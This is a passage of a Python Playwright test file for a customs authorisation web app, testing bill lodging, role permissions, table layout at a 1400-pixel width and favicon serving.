    page.click("#lodge-bill")
    page.wait_for_selector("#lodging .lodged", timeout=30_000)
    shown = page.locator("#lodging").inner_text()
    assert "Lodged" in shown and "BILL-20190901-20190930-" in shown and "It is the bill shown here." in shown
    assert page.locator("#lodge-bill").count() == 0
    entry_ref = page.locator("#lodging .lodged a").inner_text()
    assert served.customs.entry_state(REFERENCE, entry_ref).kind == "bill"
    page.context.close()
    customs = signed_in_page(browser, served, dev_account("customs"))
    customs.goto(f"{served.base}/authorisations/{REFERENCE}")
    row = customs.locator('#bills tr[data-period-end="2019-09-30"]')
    assert row.count() == 1 and "Lodged" in row.inner_text() and entry_ref in row.inner_text()
    assert customs.locator("#lodge-bill").count() == 0  # customs do not lodge
    customs.context.close()


def test_the_bill_page_fits_a_1400_pixel_window(browser: Any, served: Served) -> None:
    """The placements table shows every column, STATUS and REMAINING included, within the window, and
    no rate or quantity is wrapped ("4.5 %" on one line)."""
    page = signed_in_page(browser, served, dev_account("customs"))
    page.set_viewport_size({"width": 1400, "height": 900})
    page.goto(f"{served.base}/authorisations/{REFERENCE}/bill?from=2019-08-01&to=2019-09-30")
    measured = page.evaluate(
        """() => {
        const tables = [...document.querySelectorAll('main table')].map((table) => {
          const cells = [...table.querySelectorAll('th, td')];
          return {
            id: table.closest('section')?.id || table.id || '',
            right: table.getBoundingClientRect().right,
            scrolled: table.parentElement.scrollWidth > table.parentElement.clientWidth + 1,
            widest: [...table.querySelectorAll('th, td')].sort((a, b) => b.offsetWidth - a.offsetWidth)
              .slice(0, 3).map((c) => `${c.offsetWidth}px ${c.innerText.slice(0, 80)}`),
            // Cut: wider than its cell; only a code longer than 11em may be, elided with an ellipsis.
            cut: cells.filter((c) => c.scrollWidth > c.clientWidth + 1)
              .filter((c) => getComputedStyle(c).textOverflow !== 'ellipsis' || c.innerText.length < 24)
              .map((c) => c.innerText),
            wrapped: cells.filter((c) => /^[-−+]?[0-9][0-9,.]* ?(%|kg|p\\/st)$/.test(c.innerText.trim()))
              .filter((c) => { const r = document.createRange(); r.selectNodeContents(c);
                               return r.getClientRects().length > 1; })
              .map((c) => c.innerText),
          };
        });
        return {width: document.documentElement.scrollWidth, tables};
      }"""
    )
    assert measured["tables"], "no table on the bill page"
    assert measured["width"] <= 1400, measured
    for table in measured["tables"]:
        assert table["right"] <= 1400 and not table["scrolled"], repr(table)
        assert not table["cut"], table
        assert not table["wrapped"], table
    headers = page.locator("main table").nth(1).locator("th").all_inner_texts()  # the placements
    assert any("STATUS" in h.upper() for h in headers) and any("REMAINING" in h.upper() for h in headers)
    page.context.close()


def test_the_favicon_is_served(served: Served) -> None:
    icon = served.get("/static/favicon.svg")
    assert icon.status_code == 200 and icon.headers["content-type"].startswith("image/svg+xml")
    old_style = served.get("/favicon.ico", allow_redirects=False)
    assert (old_style.status_code, old_style.headers["location"]) == (308, "/static/favicon.svg")
    signin = served.get("/signin")
    assert '<link rel="icon" href="/static/favicon.svg" type="image/svg+xml">' in signin.text
